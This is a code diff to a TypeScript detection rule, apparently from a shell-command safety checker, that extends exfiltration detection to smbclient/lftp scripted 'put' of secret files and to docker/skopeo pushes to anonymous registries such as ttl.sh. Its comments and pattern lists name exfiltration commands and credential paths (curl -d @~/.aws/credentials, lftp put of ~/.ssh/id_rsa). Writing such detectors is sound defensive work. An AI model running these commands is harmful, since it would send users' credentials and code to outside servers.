@@ -2,6 +2,7 @@
 // scp/rsync to a remote, DNS lookups) whose payload comes from a credential file, the process
 // environment, a CLI that prints its login token, or the cloud metadata service, through a pipe, a substitution or a file argument.
 // A secret spelled into a request only as its credential, to the API it is for, is used, not sent (secret-use.ts).
+import { matchExfilService } from "../../egress/exfil-services.ts";
 import { FETCHERS } from "../commands.ts";
 import { invocationsIn, isSocketTool, operandFields } from "../facts.ts";
 import { type Invocation, type ShellModel, upstreamOf } from "../model.ts";
@@ -12,7 +13,9 @@ import { isCredentialPath } from "./credential-read.ts";
 import { eachInvocation, hit, type Rule } from "./rule.ts";
 
 export const exfiltrationRule: Rule = (ctx) =>
-  eachInvocation(ctx, (inv) => (isSender(inv) && sendsSecrets(inv, ctx.model) ? hit("shell.data_exfiltration", inv) : undefined));
+  eachInvocation(ctx, (inv) =>
+    (isSender(inv) && sendsSecrets(inv, ctx.model)) || putsSecretByScript(inv) || pushesToDropRegistry(inv) ? hit("shell.data_exfiltration", inv) : undefined,
+  );
 
 const SECRET_FRAGMENTS = [
   "/.aws/credentials", "/.aws/config", "/.kube/config", "/.docker/config.json", "/.netrc", "/.git-credentials", "/.npmrc",
@@ -129,3 +132,53 @@ function copiesSecretAway(inv: Invocation): boolean {
 /** `curl -d @~/.aws/credentials`, `curl -F f=@id_rsa`, `curl -T .env`, `wget --post-file=.env`: the file is the payload. */
 const uploadsSecretFile = (inv: Invocation): boolean =>
   optionPaths(inv).some((found) => found.sent && isSecretOrCredential(found.path.split(";")[0] ?? ""));
+
+/** File-transfer clients driven by a command script (`smbclient -c 'put F'`, `lftp -e 'put F; bye'`). */
+const SCRIPTED_CLIENTS = new Map<string, ReadonlySet<string>>([
+  ["smbclient", new Set(["-c", "--command"])],
+  ["lftp", new Set(["-e", "-c"])],
+]);
+
+/** `smbclient //host/share -c 'put .env'`, `lftp -e 'put ~/.ssh/id_rsa; bye' host`: a secret put on someone's server. */
+const putsSecretByScript = (inv: Invocation): boolean => scriptedPuts(inv).some(isSecretOrCredential);
+
+/** The local files a scripted transfer client's `put`/`mput`/`reput` commands send. */
+export function scriptedPuts(inv: Invocation): string[] {
+  const flags = SCRIPTED_CLIENTS.get(inv.name);
+  if (!flags) return [];
+  const scripts = inv.args.filter((_, i) => flags.has(inv.args[i - 1]?.text ?? "")).map((arg) => arg.text.slice(0, 4096));
+  return scripts.flatMap((script) =>
+    script.split(/[;\n]/).flatMap((command) => {
+      const words = command.trim().split(/\s+/);
+      if (!/^(?:m?put|reput)$/i.test(words[0] ?? "")) return [];
+      const files = words.slice(1).filter((word) => !word.startsWith("-")).map((word) => word.replace(/^["']|["']$/g, ""));
+      // smbclient's `put LOCAL REMOTE` and lftp's `put LOCAL -o REMOTE`: the first operand is the local file (mput's are all local).
+      return /^mput$/i.test(words[0] ?? "") ? files : files.slice(0, 1);
+    }),
+  );
+}
+
+/** Image tools and the verbs that send an image to the registry named in the reference. */
+const IMAGE_PUSHERS = new Map<string, RegExp>([
+  ["docker", /^(?:push|image push)$/],
+  ["podman", /^(?:push|image push)$/],
+  ["nerdctl", /^push$/],
+  ["skopeo", /^copy$/],
+  ["crane", /^(?:push|copy|cp)$/],
+  ["oras", /^(?:push|copy|cp)$/],
+]);
+
+/**
+ * `docker push ttl.sh/x:1h`, `skopeo copy docker://registry.internal/app docker://ttl.sh/app`:
+ * an image (the code and whatever was baked into it) pushed to an anonymous registry anyone can
+ * pull from. Which registry a team owns cannot be told; an anonymous drop is nobody's.
+ */
+function pushesToDropRegistry(inv: Invocation): boolean {
+  const verb = IMAGE_PUSHERS.get(inv.name);
+  if (!verb) return false;
+  const words = inv.args.map((arg) => arg.text).filter((text) => !text.startsWith("-"));
+  if (!verb.test(words[0] ?? "") && !verb.test(words.slice(0, 2).join(" "))) return false;
+  const destination = (words[words.length - 1] ?? "").replace(/^docker:\/\//, "").toLowerCase();
+  const host = destination.split("/")[0] ?? "";
+  return destination.includes("/") && matchExfilService(host.replace(/:\d+$/, ""), "") !== undefined;
+}
